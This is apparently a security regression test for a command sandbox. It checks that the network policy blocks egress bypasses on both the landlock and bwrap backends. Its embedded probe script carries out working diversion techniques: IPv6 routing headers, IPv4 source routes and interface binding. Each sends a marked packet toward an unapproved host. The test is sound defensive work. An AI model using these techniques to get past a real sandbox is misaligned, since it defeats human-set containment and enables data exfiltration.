#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The network dimension attacked (issue 21, the second look): a hostile command tries to send data to an
address the supervisor never approved, on both backends, under `--network off` (in the host's network
namespace: `--allow-local-port` keeps bwrap there too) and under the allow-list.

The supervisor approves a destination and then performs the connect or send on the command's own socket.
A socket option the command set beforehand can still change where the kernel puts the packet: a routing
header (IPV6_RTHDR, a segment routing header: no capability needed) makes the packet's first hop, hence
its IPv6 destination, an address of the command's choosing, and an IPv4 source route (IP_OPTIONS, or
IP_RETOPTS in a sendmsg's control data, which the supervisor performs) does the same for IPv4.  The
approved destination is the command's own server on loopback; the diverted one is a host address that is
not loopback (a global IPv6 address of the host, 127.0.0.2 for IPv4), standing for any outside host.
The interface a packet leaves by is the third way: IP_UNICAST_IF, or IP_PKTINFO in a sendmsg, sends a
datagram for 127.0.0.1 out of the host's Ethernet device (to its link, whoever listens there), and
SO_BINDTODEVICE (no capability needed on a socket bound to no device yet) a connect's SYN.

Each case is judged on the wire: the test (root) captures every packet on every interface with an
AF_PACKET socket while the command runs, and fails if a packet addressed to the diverted address carries
the case's marker (UDP) or opens a TCP connection to the command's port there, or if a packet carrying the
marker left by an interface that is not loopback.

Output is unittest's verbose form on stdout, one line per case, then "N passed, N failed, N skipped".
"""
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "livability"))
from livability import BIN, SCRATCH, bwrap_works, landlock_abi, run_suite  # noqa: E402

# A bound on a run that hangs, never a measurement.
PATIENCE = 120
BACKENDS = [name for name, usable in (("landlock", landlock_abi() > 0), ("bwrap", bwrap_works())) if usable]
ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
ARPHRD_ETHER = 1
ARPHRD_LOOPBACK = 772
# Policies whose command shares the host's network namespace (where a diverted packet would leave).
NETWORKS = {
    "off": ["--network", "off", "--allow-local-port", "9"],
    "allow-list": ["--allow-host", "allowed.dsh.test", "--dns-upstream", "127.0.0.1:9"],
}

# The command: its own server on loopback (an approved destination), a socket told to route elsewhere,
# one send or connect to the approved destination.  Prints what the socket calls answered.
PROBE = r'''
import errno, socket, struct, sys
case, target, marker = sys.argv[1], sys.argv[2], sys.argv[3].encode()

def answer(call):
    try:
        result = call()
        print("done", result)
    except OSError as error:
        print("refused", errno.errorcode.get(error.errno, error.errno))
        sys.exit(3)

if case.startswith("srh"):
    # A segment routing header (type 4), segments left 0, one segment: the target.
    header = struct.pack("!BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target)
    kind = socket.SOCK_STREAM if case == "srh-tcp" else socket.SOCK_DGRAM
    own = socket.socket(socket.AF_INET6, kind)
    own.bind(("::1", 0))
    if kind == socket.SOCK_STREAM:
        own.listen(4)
    port = own.getsockname()[1]
    print("port", port, flush=True)
    sender = socket.socket(socket.AF_INET6, kind)
    if case == "srh-cmsg":
        answer(lambda: sender.sendmsg([marker], [(socket.IPPROTO_IPV6, 57, header)], 0, ("::1", port)))
    answer(lambda: sender.setsockopt(socket.IPPROTO_IPV6, 57, header))
    if kind == socket.SOCK_STREAM:
        sender.setblocking(False)
        answer(lambda: sender.connect_ex(("::1", port)))
    else:
        answer(lambda: sender.sendto(marker, ("::1", port)))
elif case.startswith("interface"):
    # The datagram to the command's own server sent out of another interface than loopback: the target
    # names the interface (its index); the packet keeps its loopback destination but leaves the host.
    index = socket.if_nametoindex(target)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind(("127.0.0.1", 0))
    port = own.getsockname()[1]
    print("port", port, flush=True)
    if case == "interface-device":  # SO_BINDTODEVICE (25): no capability for a socket bound to no device yet
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.bind(("127.0.0.1", port))
        listener.listen(4)
        sender = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        answer(lambda: sender.setsockopt(socket.SOL_SOCKET, 25, target.encode()))
        sender.setblocking(False)
        answer(lambda: sender.connect_ex(("127.0.0.1", port)))
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if case == "interface-cmsg":  # IP_PKTINFO (8): the interface, and no source address (the route's)
        info = struct.pack("I", index) + socket.inet_aton("0.0.0.0") * 2
        answer(lambda: sender.sendmsg([marker], [(socket.IPPROTO_IP, 8, info)], 0, ("127.0.0.1", port)))
    answer(lambda: sender.setsockopt(socket.IPPROTO_IP, 50, struct.pack("!I", index)))  # IP_UNICAST_IF
    answer(lambda: sender.sendto(marker, ("127.0.0.1", port)))
else:
    # A loose source route through the target (IPv4 option 131), padded with a no-op.
    option = bytes([0x83, 7, 4]) + socket.inet_aton(target) + bytes([1])
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind(("127.0.0.1", 0))
    port = own.getsockname()[1]
    print("port", port, flush=True)
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if case == "lsrr-cmsg":
        answer(lambda: sender.sendmsg([marker], [(socket.IPPROTO_IP, 7, option)], 0, ("127.0.0.1", port)))
    answer(lambda: sender.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option))
    answer(lambda: sender.sendto(marker, ("127.0.0.1", port)))
'''


def global_ipv6_address():
    """A global-scope IPv6 address of this host (not loopback), or None."""
    try:
        with open("/proc/net/if_inet6", encoding="ascii") as table:
            for line in table:
                fields = line.split()
                if len(fields) >= 6 and fields[3] == "00" and fields[5] != "lo":
                    return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(fields[0]))
    except OSError:
        pass
    return None


class Wire:
    """Every packet on every interface, from before the command runs until it has exited."""

    def __init__(self):
        self.capture = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.capture.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.capture.setblocking(False)

    def packets(self):
        """(ethertype, packet, interface) for every frame captured so far."""
        found = []
        while True:
            try:
                frame, where = self.capture.recvfrom(65535)
            except BlockingIOError:
                return found
            # An Ethernet or loopback device's frames open with a 14-byte link header; others have none.
            found.append((where[1], frame[14:] if where[3] in (ARPHRD_ETHER, ARPHRD_LOOPBACK) else frame, where[0]))

    def close(self):
        self.capture.close()


def outside_interface():
    """An interface of this host that is not loopback and is up, or None."""
    for _, name in socket.if_nameindex():
        try:
            with open(f"/sys/class/net/{name}/operstate", encoding="ascii") as state:
                if name != "lo" and state.read().strip() in ("up", "unknown"):
                    return name
        except OSError:
            continue
    return None


def left_by(packets, interface, marker, port):
    """Whether a packet for loopback carrying `marker`, or opening a TCP connection to `port`, left by `interface`."""
    for ethertype, packet, where in packets:
        if where != interface or ethertype != ETH_P_IP or packet[16] != 127:
            continue
        header = (packet[0] & 0x0F) * 4
        if marker in packet or (packet[9] == socket.IPPROTO_TCP and packet[header + 2:header + 4] == struct.pack("!H", port)):
            return True
    return False


def diverted(packets, target, marker, port):
    """Whether a captured packet addressed to `target` carries `marker` or opens a connection to `port`."""
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    wanted = socket.inet_pton(family, target)
    for ethertype, packet, _ in packets:
        if family == socket.AF_INET6 and ethertype == ETH_P_IPV6 and packet[24:40] == wanted:
            if marker in packet or struct.pack("!H", port) in packet[40:]:
                return True
        if family == socket.AF_INET and ethertype == ETH_P_IP and packet[16:20] == wanted and marker in packet:
            return True
    return False


class NetworkAttacks(unittest.TestCase):
    def setUp(self):
        try:
            self.wire = Wire()
        except PermissionError:
            self.skipTest("capturing packets needs CAP_NET_RAW, which this test lacks")
        os.makedirs(SCRATCH, exist_ok=True)
        self.home = tempfile.mkdtemp(prefix="network-attacks-", dir=SCRATCH)
        self.env = dict(os.environ, HOME=self.home, PROBE=PROBE, XDG_CONFIG_HOME=os.path.join(self.home, "config"),
                        XDG_STATE_HOME=os.path.join(self.home, "state"), DSH_SANDBOX_STATE_DIR=os.path.join(self.home, "state"))
        self.env.pop("DSH_SANDBOX_CONFIG", None)

    def tearDown(self):
        self.wire.close()
        shutil.rmtree(self.home, ignore_errors=True)

    def attack(self, backend, network, case, target):
        marker = f"DSH-EXFIL-{case}-{backend}-{network}-{os.getpid()}"
        self.wire.packets()  # what came before is not this case's
        done = subprocess.run([BIN, "run", "--backend", backend, *NETWORKS[network], "--",
                               "python3", "-c", PROBE, case, target, marker],
                              capture_output=True, text=True, env=self.env, timeout=PATIENCE, check=False)
        lines = done.stdout.split("\n")
        self.assertTrue(lines[0].startswith("port "), f"{done.stdout!r} {done.stderr!r}")
        port = int(lines[0].split()[1])
        packets = self.wire.packets()
        if case.startswith("interface"):
            self.assertFalse(left_by(packets, target, marker.encode(), port),
                             f"{backend}/{network}/{case}: a packet for loopback left by {target}: {done.stdout!r}")
        else:
            self.assertFalse(diverted(packets, target, marker.encode(), port),
                             f"{backend}/{network}/{case}: a packet left for {target}, which nobody approved: "
                             f"{done.stdout!r}")
        return done

    def interface_target(self):
        interface = outside_interface()
        if not interface:
            self.skipTest("the host has no interface but loopback for a packet to leave by")
        return interface

    def ipv6_target(self):
        target = global_ipv6_address()
        if not target:
            self.skipTest("the host has no global IPv6 address to stand for an outside one")
        return target


# One case per attack, backend and policy: (the attack's name, the probe's case, the diverted address).
ATTACKS = [
    ("a_routing_header_set_on_a_udp_socket_diverts_nothing", "srh-udp", None),
    ("a_routing_header_set_on_a_tcp_socket_diverts_no_connect", "srh-tcp", None),
    ("a_routing_header_in_a_sendmsg_the_supervisor_performs_diverts_nothing", "srh-cmsg", None),
    ("an_ipv4_source_route_diverts_nothing", "lsrr-sticky", "127.0.0.2"),
    ("an_ipv4_source_route_in_a_sendmsg_the_supervisor_performs_diverts_nothing", "lsrr-cmsg", "127.0.0.2"),
    ("a_datagram_for_loopback_never_leaves_by_another_interface", "interface-sticky", "interface"),
    ("a_datagram_for_loopback_never_leaves_by_a_sendmsgs_interface", "interface-cmsg", "interface"),
    ("a_connect_to_loopback_never_leaves_by_a_bound_device", "interface-device", "interface"),
]


def add_case(name, case, target, backend, network):
    def test(self):
        if backend not in BACKENDS:
            self.skipTest(f"{backend} cannot confine on this host")
        where = self.interface_target() if target == "interface" else target or self.ipv6_target()
        self.attack(backend, network, case, where)
    setattr(NetworkAttacks, f"test_{backend}_{network.replace('-', '_')}_{name}", test)


for attack in ATTACKS:
    for each_backend in ("landlock", "bwrap"):
        for each_network in NETWORKS:
            add_case(*attack, each_backend, each_network)

if __name__ == "__main__":
    sys.exit(run_suite(__name__))
